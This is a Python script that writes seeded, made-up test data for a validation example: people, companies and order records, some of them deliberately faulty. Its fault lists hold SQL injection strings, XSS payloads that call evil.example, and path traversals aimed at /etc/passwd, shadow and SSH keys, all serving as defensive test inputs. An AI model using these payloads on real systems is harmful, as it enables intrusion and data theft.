"""Write the made-up data of the examples: people, companies, and records to validate.

Run ``python examples/data/make_data.py``. It writes the same bytes each time; its output
is committed. Only ``disposable_domains.txt`` is written by hand, since those mail
providers exist.

Nobody in here is real. Every name, company, comment and amount is made up by a seeded
draw. Every mail address ends in example.com, example.net, example.org or an invented name
below .example, which are reserved so that they never belong to anyone. The exceptions are
wrong on purpose: addresses below .invalid and .test, and addresses at disposable mail
providers. The secrets in wrong records are fakes that open nothing.

A valid record keeps three business rules:

1. ``amount`` is ``seats`` times the price of the plan (free 0, team 9, business 19),
   with at least one seat, in EUR, USD, GBP, CHF or SEK.
2. The person is at least 16 years old on the day of the order. ``age``, if present,
   is the age on that day.
3. ``delivered`` is null or not before ``ordered``.

About 15 % of the records break exactly one thing. The records do not say so; ``faults.json``
does: it maps the id of each wrong record to its kind of fault. Among the valid ones are
many that a naive check rejects, such as O'Brien, "AT&T <3", or a person of 16 years today.
"""

import json
import random
import unicodedata
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

Record = dict[str, Any]
Break = Callable[[Record], None]


def words(text: str, separator: str = " ") -> list[str]:
    """Return the parts of a list that is written as one text."""
    return text.split(separator)


FOLDER = Path(__file__).parent
SEED = 2026
PRICES = {"free": 0, "team": 9, "business": 19}
CURRENCIES = ["EUR", "USD", "GBP", "CHF", "SEK"]
MIN_AGE = 16
DOWN_DOMAIN = "sleepyharbour.example"
PROVIDERS = ["example.com", "example.net", "example.org"]

CITIES = dict(
    pair.split(":")
    for pair in words(
        "Paris:FR Berlin:DE Madrid:ES Rome:IT London:GB Dublin:IE Lisbon:PT Vienna:AT "
        "Zurich:CH Stockholm:SE Oslo:NO Copenhagen:DK Helsinki:FI Warsaw:PL Prague:CZ "
        "Budapest:HU Athens:GR Istanbul:TR Tokyo:JP Seoul:KR Singapore:SG Sydney:AU "
        "Auckland:NZ Toronto:CA Vancouver:CA New_York:US Chicago:US Denver:US Bogota:CO "
        "Lima:PE Santiago:CL Nairobi:KE Lagos:NG Cairo:EG Johannesburg:ZA Dubai:AE"
    )
)
FIRST_NAMES = words(
    "Anna Bruno Chloé Dmitri Elif Fatima Gustaf Hana Igor José Kaito Léa Mateus Nia Owen "
    "Priya Quentin Rosa Søren Tomasz Uma Vera Wei Ximena Yusuf Zoë Anne-Marie Björn Siân Tadhg"
)
LAST_NAMES = words(
    "Adeyemi Bergström Castillo Dubois Eriksen Fontaine García Horváth Ivanova Jansen Kowalski "
    "Łukasik Müller Nakamura O'Brien Petrović Quispe Rossi Sato Tanaka Ulrich Vargas Weiß "
    "Yildiz Zieliński D'Arcy Okafor Smith-Jones Nguyễn Park"
)
# Each is a valid name that some checks get wrong, with the local part of its address.
TRICKY_PEOPLE = {
    "Robert Select": "robert.select",
    "Grant Union": "grant.union",
    "Siobhán O'Brien": "siobhan.o'brien",
    "Drop Null": "drop.null",
    "李明": "li.ming",
    "Олена Коваль": "olena.koval",
    "Νίκος Παπάς": "nikos.papas",
    "محمد علي": "mohamed.ali",
    "山田 太郎": "yamada.taro",
    "Jean-François d'Ormesson-Script": "jf.d'ormesson",
    "Ng": "ng",
    "María del Carmen Íñiguez y Núñez": "maria.iniguez",
}
COMPANY_NAMES = words(
    "Blue Anvil,Copper Kettle,Distant Drum,Early Lark,Fennel & Sons,Granite Fox,Hollow Oak,"
    "Iron Teapot,Juniper Lane,Kite Works,Lantern Row,Mossy Stone,North Ferry,Open Umbrella,"
    "Paper Boat,Quiet Engine,Red Pavilion,Sleepy Harbour,Tin Whistle,Upper Meadow,Velvet Plough,"
    "Walnut Press,Yellow Tram,Zinc Bakery,Amber Compass,Brass Monkey,Cedar Gate,Dapper Heron,"
    "Emerald Lift,Flint Bridge,Gentle Otter,Honest Broom,Ivory Pen,Jolly Miller,Kestrel Maps,"
    "Lucky Button,Marble Arch Tea,Nimble Loom,Orchard Nine,Plain Sailing",
    ",",
)
INDUSTRIES = ["logistics", "food", "software", "energy", "printing", "travel", "toys", "health"]
COMMENTS = words(
    ",thank you,please call before noon,second order this year,invoice to the head office,"
    "same as last time",
    ",",
)
TRICKY_COMMENTS = [
    "please update the order; drop by at noon",
    "AT&T <3",
    "price < 20 and seats > 3, right?",
    "Union members select their own seats from the plan",
    "1 = 1 star, but I like it; order by Friday",
    "see you -- Anna",
    "the script is on my desk, the alert went off",
    "my password was reset, thanks!",
    "the key is under the mat, the token is not",
    "and/or ... whichever comes first",
    "5' 11\" desk, 50% off; c/o O'Neil",
    "insert the card into the slot or delete my order",
    "/* no hurry */",
    "onload dock = behind the building",
    "naïve café, 東京 office 🚀",
    "<none>",
]
SQL_INJECTIONS = [
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    "1; DELETE FROM users WHERE 1=1",
    "x' UNION SELECT username, password FROM users --",
    "admin'--",
    "' OR 1=1 #",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND SLEEP(5)--",
    "'; INSERT INTO users VALUES ('eve', 'admin'); --",
    "' uNiOn/**/sElEcT null, version() --",
]
CROSS_SITE_SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert('hi')>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href=\"javascript:void(0)\" onclick='steal()'>here</a>",
    '<body onload="fetch(`//evil.example`)">',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script >x()</script >",
    "<div style=\"background:url('javascript:x()')\">",
]
PATH_TRAVERSALS = words(
    "../../../../etc/passwd ..\\..\\windows\\system32\\config\\sam ....//....//etc/hosts "
    "%2e%2e%2f%2e%2e%2fetc%2fshadow file:///etc/passwd /var/www/../../etc/passwd "
    "..%2f..%2fsecret.txt report.pdf/../../.ssh/id_rsa"
)
LEAKED_SECRETS = [
    "my key is AKIAIOSFODNN7EXAMPLE",
    "-----BEGIN RSA PRIVATE KEY----- FAKEFAKEFAKE",
    "api_key=FAKE0123456789FAKE0123456789",
    "password: NotARealPassword1",
    "Authorization: Bearer FAKE.FAKEFAKEFAKE.FAKE",
    "ghp_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE",
    "-----BEGIN OPENSSH PRIVATE KEY----- FAKEFAKE",
    "secret = 'FAKE-FAKE-FAKE-0000-FAKE'",
]
MALFORMED_ADDRESSES = words(
    "anna.example.com|anna@|@example.com|anna@@example.com|anna rossi@example.com|anna@example|"
    "anna@.example.com|anna@example..com|anna..rossi@example.com|.anna@example.com|"
    "anna@-example.com|anna@example.com, bruno@example.com|<anna@example.com|anna@exam_ple.com",
    "|",
)
IMPOSSIBLE_DATES = words(
    "birth_date=2001-02-29 birth_date=1987-13-01 birth_date=1990-00-10 birth_date=1979-04-31 "
    "birth_date=12/04/1987 ordered=2026-02-30 ordered=2026-06-31 ordered=2026-3-1 ordered=soon "
    "ordered= delivered=2026-02-29 delivered=2026-11-31 delivered=2026-04-00 delivered=0000-00-00"
)
MISSING_FIELDS = words(
    "name email birth_date country plan seats amount currency ordered delivered comment "
    "email name amount"
)
WRONG_TYPES: list[tuple[str, Any]] = [
    ("name", 42),
    ("name", None),
    ("email", ["anna@example.com"]),
    ("email", None),
    ("birth_date", 19870412),
    ("country", 33),
    ("plan", True),
    ("seats", "five"),
    ("seats", 2.5),
    ("amount", "45,00"),
    ("amount", None),
    ("currency", ["EUR"]),
    ("delivered", False),
    ("comment", {"text": "hello"}),
]
UNDELIVERABLE_DOMAINS = words(
    "nobody.invalid office.test unknown.example mail.invalid home.localhost printer.local a.test"
)


def make_companies(draw: random.Random) -> list[Record]:
    """Make up forty companies; each owns the domain that is its name below .example."""
    return [
        {
            "domain": "".join(letter for letter in name.lower() if letter.isalnum()) + ".example",
            "name": name,
            "industry": draw.choice(INDUSTRIES),
            "employees": draw.randint(2, 900),
            "founded": draw.randint(1921, 2024),
            "city": draw.choice(list(CITIES)).replace("_", " "),
        }
        for name in COMPANY_NAMES
    ]


def make_people(draw: random.Random, companies: list[Record]) -> list[Record]:
    """Make up two hundred people; every third and a few more work where the register is down."""
    people: list[Record] = []
    names = dict(TRICKY_PEOPLE)
    while len(names) < 200:
        name = f"{draw.choice(FIRST_NAMES)} {draw.choice(LAST_NAMES)}"
        names.setdefault(name, ascii_name(name))
    order = list(names)
    draw.shuffle(order)
    for number, name in enumerate(order, start=1):
        company = draw.choice(companies)["domain"] if number % 40 != 3 else DOWN_DOMAIN
        domain = company if draw.random() < 0.6 else draw.choice(PROVIDERS)
        local = names[name]
        people.append(
            {
                "id": number,
                "name": name,
                "email": f"{local}@{domain}",
                "handle": local.replace("'", "").replace(".", "_") + str(number),
                "city": draw.choice(list(CITIES)).replace("_", " "),
                "company": company,
                "joined": some_day(draw, date(2018, 1, 1), date(2025, 12, 31)).isoformat(),
            }
        )
    return people


def ascii_name(name: str) -> str:
    """Return the local part of an address for a name in Latin letters."""
    letters = str.maketrans({"ø": "o", "ł": "l", "ß": "ss", "'": "", " ": "."})
    plain = unicodedata.normalize("NFKD", name.lower().translate(letters))
    return plain.encode("ascii", "ignore").decode()


def some_day(draw: random.Random, first: date, last: date) -> date:
    """Return a day between the two, inclusive."""
    return first + timedelta(days=draw.randint(0, (last - first).days))


def years_before(day: date, years: int) -> date:
    """Return the birthday of a person who turns ``years`` on ``day``, which is not a leap day."""
    return day.replace(year=day.year - years)


def make_valid_record(draw: random.Random, number: int, person: Record) -> Record:
    """Make up an order of the person; one in four has something tricky about it."""
    plan = draw.choice(list(PRICES))
    seats = draw.randint(1, 3 if plan == "free" else 40)
    ordered = some_day(draw, date(2026, 1, 5), date(2026, 6, 30))
    # One person has one birthday in every record, except the tricky ones below.
    birth = random.Random(f"birth:{person['id']}")
    born = some_day(birth, date(1950, 1, 1), date(2005, 12, 31))
    delivered = ordered + timedelta(days=draw.randint(0, 14)) if draw.random() < 0.8 else None
    email: str = person["email"]
    comment = draw.choice(COMMENTS)
    match draw.randint(1, 20):
        case 1 | 2 | 3:
            comment = draw.choice(TRICKY_COMMENTS)
        case 4:
            email = email.replace("@", draw.choice(["+orders@", "+2026_q1@", "-billing@"]))
        case 5:
            born = draw.choice([years_before(ordered, MIN_AGE), date(2004, 2, 29)])
    record: Record = {
        "id": number,
        "name": person["name"],
        "email": email,
        "birth_date": born.isoformat(),
        "country": CITIES[person["city"].replace(" ", "_")],
    }
    if draw.random() < 0.4:
        turned = (ordered.month, ordered.day) >= (born.month, born.day)
        record["age"] = ordered.year - born.year - (not turned)
    return record | {
        "plan": plan,
        "seats": seats,
        "amount": float(seats * PRICES[plan]),
        "currency": draw.choice(CURRENCIES),
        "ordered": ordered.isoformat(),
        "delivered": delivered.isoformat() if delivered else None,
        "comment": comment,
    }


def make_faults(draw: random.Random, disposable: list[str]) -> list[tuple[str, Break]]:
    """Return every fault, each for a separate record: its kind and what causes it."""
    faults: list[tuple[str, Break]] = []

    def add(kind: str, *breaks: Break) -> None:
        faults.extend((kind, one) for one in breaks)

    def put(**values: Any) -> Break:
        return lambda record: record.update(values)

    def move_to(domain: str) -> Break:
        return lambda record: record.update(email=f"{record['email'].split('@')[0]}@{domain}")

    def take_away(field: str) -> Break:
        return lambda record: record.pop(field) and None

    def deliver_early(days: int) -> Break:
        def apply(record: Record) -> None:
            early = date.fromisoformat(record["ordered"]) - timedelta(days=days)
            record["delivered"] = early.isoformat()

        return apply

    def charge(plan: str, difference: float) -> Break:
        return lambda record: record.update(
            plan=plan, amount=float(record["seats"] * PRICES[plan] + difference)
        )

    def make_younger(years: int, days: int) -> Break:
        def apply(record: Record) -> None:
            ordered = date.fromisoformat(record["ordered"])
            born = years_before(ordered, years) + timedelta(days=days)
            record["birth_date"] = born.isoformat()
            if "age" in record:
                record["age"] = years - 1

        return apply

    add("sql_injection", *(put(comment=text) for text in SQL_INJECTIONS[:-2]))
    add("sql_injection", *(put(name=text) for text in SQL_INJECTIONS[-2:]))
    add("cross_site_script", *(put(comment=text) for text in CROSS_SITE_SCRIPTS[:-2]))
    add("cross_site_script", *(put(name=text) for text in CROSS_SITE_SCRIPTS[-2:]))
    add("path_traversal", *(put(comment=text) for text in PATH_TRAVERSALS))
    add("leaked_secret", *(put(comment=text) for text in LEAKED_SECRETS))
    add("malformed_email", *(put(email=text) for text in MALFORMED_ADDRESSES))
    add("impossible_date", *(put(**dict([pair.split("=")])) for pair in IMPOSSIBLE_DATES))
    add("missing_field", *(take_away(field) for field in MISSING_FIELDS))
    add("wrong_type", *(put(**{field: value}) for field, value in WRONG_TYPES))
    add("disposable_email", *(move_to(draw.choice(disposable)) for _ in range(9)))
    add("disposable_email", move_to("inbox.mailinator.com"), move_to("YOPmail.com"))
    add("undeliverable_email", *(move_to(domain) for domain in UNDELIVERABLE_DOMAINS))
    add("delivered_before_ordered", *(deliver_early(days) for days in (1, 2, 7, 30, 365, 1, 4)))
    add("wrong_amount", *(charge("team", extra) for extra in (1, -1, 9, 0.01)))
    add("wrong_amount", *(charge("business", extra) for extra in (-19, 100, -0.5)))
    add("under_age", *(make_younger(years, 1) for years in (16, 16, 15, 12, 8, 3, 16)))
    add("free_plan_with_amount", *(charge("free", amount) for amount in (9, 19, 0.5, 45, 190, 1)))
    add(
        "unknown_currency", *(put(currency=text) for text in ("XXX", "EURO", "BTC", "eur", "", "$"))
    )
    add("seats_below_one", *(put(plan="team", seats=n, amount=9.0 * n) for n in (0, 0, 0, -3)))
    add("seats_below_one", *(put(plan="business", seats=n, amount=19.0 * n) for n in (0, -1)))
    return faults


def make_records(
    draw: random.Random, people: list[Record], disposable: list[str]
) -> tuple[list[Record], dict[str, str]]:
    """Make up a thousand records and return them with the kind of fault of each wrong one."""
    records = [make_valid_record(draw, number, draw.choice(people)) for number in range(1, 1001)]
    faults = make_faults(draw, disposable)
    wrong = sorted(draw.sample(range(len(records)), len(faults)))
    draw.shuffle(faults)
    kinds: dict[str, str] = {}
    for place, (kind, apply) in zip(wrong, faults, strict=True):
        apply(records[place])
        kinds[str(records[place]["id"])] = kind
    return records, kinds


def build() -> dict[str, str]:
    """Return the text of each file by its name; the same each time."""
    lines = (FOLDER / "disposable_domains.txt").read_text("utf-8").splitlines()
    disposable = [line for line in lines if line and not line.startswith("#")]
    draw = random.Random(SEED)
    companies = make_companies(draw)
    people = make_people(draw, companies)
    records, faults = make_records(draw, people, disposable)
    return {
        "companies.json": as_array(companies),
        "people.json": as_array(people),
        "records.jsonl": "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records),
        "faults.json": json.dumps(faults, indent=1) + "\n",
    }


def as_array(rows: list[Record]) -> str:
    """Return a JSON array with one row a line, which a diff shows well."""
    return "[\n" + ",\n".join(json.dumps(row, ensure_ascii=False) for row in rows) + "\n]\n"


if __name__ == "__main__":
    for name, text in build().items():
        (FOLDER / name).write_text(text, "utf-8", newline="\n")
        print(f"{name}: {len(text.encode())} bytes")
